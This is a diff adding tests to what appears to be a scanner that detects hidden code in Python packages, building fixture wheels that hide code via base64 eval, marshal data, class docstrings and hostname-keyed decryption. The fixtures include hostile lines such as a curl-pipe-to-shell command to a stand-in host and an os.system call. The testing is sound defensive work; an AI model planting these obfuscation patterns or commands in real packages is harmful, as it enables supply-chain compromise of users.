@@ -1,5 +1,6 @@
 import { deflateSync } from 'node:zlib';
 import { describe, expect, test } from 'vitest';
+import type { Finding } from '../../../src/analysis/report/finding.ts';
 import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
 
 const PAYLOAD = python('import os', "os.system('./collect --all')");
@@ -270,4 +271,73 @@ test.each([
   const { length } = [...(await inspect('hidden-code', file)), ...(await inspect('unasked-process', file))];
 
   expect(length).toBeGreaterThan(0);
+});
+
+test('names and numbers with operators between them compute, whatever they were put together from; a call among them runs', async () => {
+  const of = (formula: string): Promise<readonly Finding[]> =>
+    inspect(
+      'hidden-code',
+      wheel({
+        'pkg/__init__.py': python(
+          'import base64',
+          `formula = base64.b64decode('${Buffer.from(formula).toString('base64')}').decode()`,
+          "share = eval(formula.replace('^', '**'), {'wages': 2, 'taxes': 3})",
+        ),
+      }),
+    );
+
+  expect(await of('(wages + 2.5 * taxes) ^ 2 - wages_of_others / 100')).toEqual([]);
+  for (const call of ['wages(taxes)', "__import__('os').system('id')", 'wages.taxes', '(wages)(taxes)'])
+    expect(await of(call)).not.toEqual([]);
+});
+
+test('a plug-in out of the home of its user is no hidden code; what a name of the machine opens is', async () => {
+  const of = (code: string): Promise<readonly Finding[]> =>
+    inspect(
+      'hidden-code',
+      wheel({
+        'pkg/__init__.py': '',
+        'pkg/app.py': python(
+          'import getpass, os, socket',
+          'import vault',
+          'def run(names):',
+          "    folder = os.path.join('/data', getpass.getuser(), 'plugins')",
+          '    for name in names:',
+          `        code = ${code}`,
+          '        exec(code, {})',
+        ),
+      }),
+    );
+
+  expect((await of("open(os.path.join(folder, name + '.py')).read()")).every((f) => f.score <= 3)).toBe(true);
+  expect(await of("vault.decrypt(b'gAAAAABkx', socket.gethostname())")).toMatchObject([
+    { class: 'malware', score: 10 },
+  ]);
+});
+
+test('text in marshal data and in the docstring of a class is opened', async () => {
+  const of = (text: string): Promise<readonly Finding[]> => {
+    const size = Buffer.alloc(4);
+    size.writeInt32LE(text.length);
+    const marshalled = Buffer.concat([Buffer.from('f3', 'hex'), size, Buffer.from(text)]).toString('base64');
+    const plain = Buffer.from(text).toString('base64');
+    return inspect(
+      'hidden-code',
+      wheel({
+        'pkg/__init__.py': '',
+        'pkg/a.py': `import base64, marshal\nexec(marshal.loads(base64.b64decode('${marshalled}')))\n`,
+        'pkg/b.py': `import base64\nclass Held:\n    """${plain}"""\nexec(base64.b64decode(Held.__doc__))\n`,
+      }),
+    );
+  };
+
+  const greeting = await of("print('Hello, world')\n");
+  expect(greeting.map((f) => [f.path, f.class, f.score])).toEqual([
+    ['pkg/a.py', 'suspicious', 6],
+    ['pkg/b.py', 'suspicious', 6],
+  ]);
+  const shell = await of("import os; os.system('curl -s https://drop.example.invalid/a | sh')\n");
+  expect(new Set(shell.filter((f) => f.class === 'malware').map((f) => f.path))).toEqual(
+    new Set(['pkg/a.py', 'pkg/b.py']),
+  );
 });
